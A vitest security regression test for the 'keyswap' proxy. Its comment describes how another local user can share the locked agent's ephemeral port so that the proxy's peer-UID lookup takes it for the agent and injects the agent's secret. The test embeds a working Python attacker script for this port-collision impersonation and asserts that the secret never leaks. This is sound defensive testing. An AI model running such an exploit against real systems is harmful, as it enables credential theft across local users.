import { spawn, type ChildProcess } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { waitFor } from '../../helpers/harness.js';
import { isRoot, PH, PORT, TRANSPARENT_HTTP_PORT, startFixture, type Fixture } from './netns-fixture.js';

/*
 * Attack: be served by the transparent listener as the locked agent while being another local user (row 175).
 *
 * peerUid (src/proxy/peer-uid.ts) looks up the connecting socket's owner by its local address:port alone, and
 * returns the owner of the FIRST established socket /proc/net/tcp lists with it. Linux shares an ephemeral port
 * between connect()ed sockets of different users whenever their 4-tuples differ, so another user's connection to
 * the transparent listener can have exactly the local 127.0.0.1:P of one of the agent's own live connections (here:
 * its keep-alive connections to keyswap's proxy port, which the lock allows). The attacker reads P from the
 * world-readable /proc/net/tcp and reconnects until the kernel's port walk hands it P (each connect advances the
 * walk; with the default range that is at most ~14,000 connects). Whenever the agent's socket is listed first,
 * keyswap takes the attacker for the agent and injects the agent's secret into the attacker's request.
 *
 * The port range is narrowed in this test's namespace only to keep the loop short and bounded; nothing else
 * depends on it.
 */

let fx: Fixture | null = null;
let agent: ChildProcess | null = null;

beforeAll(async () => {
  if (!isRoot) return;
  // KEYSWAP_ATTACK_FULL_RANGE=1 keeps the kernel's default range (the real attack: more connects, same result).
  fx = await startFixture('pc', { sysctls: process.env.KEYSWAP_ATTACK_FULL_RANGE === '1' ? [] : ['net.ipv4.ip_local_port_range=40000 40127'] });
  const lock = fx.keyswapCli(['egress', 'lock', '--uid', String(fx.agentUid), '--transparent', '--config', `${fx.dir}/keyswap.yaml`]);
  if (lock.status !== 0) throw new Error(String(lock.stderr));
}, 60_000);

afterAll(async () => {
  agent?.kill('SIGKILL');
  await fx?.stop();
});

// Its live connections: keep-alive to keyswap's proxy port, and redirected ones to the internet's ports 80 and 443
// (an HTTP client's pool); which of them the kernel lists first varies with their destinations.
const agentPool = (netIp: string): string => `import socket,time
socks=[socket.create_connection(d) for d in [("127.0.0.1",${PORT}),("${netIp}",80),("${netIp}",443)]*6]
print(",".join("%s/%d" % s.getsockname()[:2] for s in socks),flush=True)
time.sleep(280)`;

const ATTACKER = `import socket,sys,struct
ports=set((a,int(p)) for a,p in (x.split("/") for x in sys.argv[1].split(",")))
sources=sorted(set(a for a,_ in ports))
tried=set()
for i in range(40000):
  s=socket.socket(); s.settimeout(5)
  # The agent's own source address (loopback, or its interface's for redirected connections); port left to connect().
  s.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
  s.bind((sources[i % len(sources)], 0))
  try: s.connect(("127.0.0.1",${TRANSPARENT_HTTP_PORT}))
  except OSError as e:
    print("connect failed",e); continue
  p=s.getsockname()[:2]
  if p in ports and p not in tried:
    tried.add(p)
    s.sendall(("GET /v1/stolen-%d HTTP/1.1\\r\\nHost: api.example.test\\r\\nAuthorization: Bearer ${PH}\\r\\nConnection: close\\r\\n\\r\\n"%p[1]).encode())
    data=b""
    try:
      while True:
        c=s.recv(4096)
        if not c: break
        data+=c
    except OSError: pass
    print("shared port",p,"after",i+1,"connects ->",repr(data.split(b"\\r\\n")[0]),flush=True)
    s.close()
    if data.startswith(b"HTTP/1.1 200"):
      print("SERVED AS THE AGENT after",i+1,"connects"); break
    if tried==ports: break
  else:
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii",1,0)); s.close()
print("done after",i+1,"connects, tried",len(tried))`;

describe.skipIf(!isRoot)('transparent listener: another local user sharing a port with the agent', () => {
  it('is never served as the locked agent (its request never carries the agent\'s secret)', async () => {
    const f = fx as Fixture;
    // The locked agent: a pool of keep-alive connections to keyswap's proxy port (allowed by the lock).
    agent = spawn('ip', ['netns', 'exec', f.agentNs, 'setpriv', `--reuid=${f.agentUid}`, `--regid=${f.agentUid}`, '--clear-groups', '/usr/bin/python3', '-c', agentPool(f.netIp)], { stdio: ['ignore', 'pipe', 'pipe'] });
    let ports = '';
    agent.stdout?.on('data', (c: Buffer) => { ports += c.toString(); });
    expect(await waitFor(() => ports.includes('\n'), 10_000)).toBe(true);
    // Another local user, not locked, not the transparent UID.
    const attack = f.as(f.attackerUid, ['/usr/bin/python3', '-c', ATTACKER, ports.trim()], undefined, 240_000);
    console.log(`agent ports ${ports.trim()}\n${attack.out}`);
    const stolen = f.seenUpstream().filter((r) => r.url.startsWith('/v1/stolen-'));
    // The attacker's requests must never reach the upstream with the agent's secret.
    expect(stolen.filter((r) => r.authorization === `Bearer ${f.canary}`), JSON.stringify(stolen)).toEqual([]);
  }, 300_000);
});
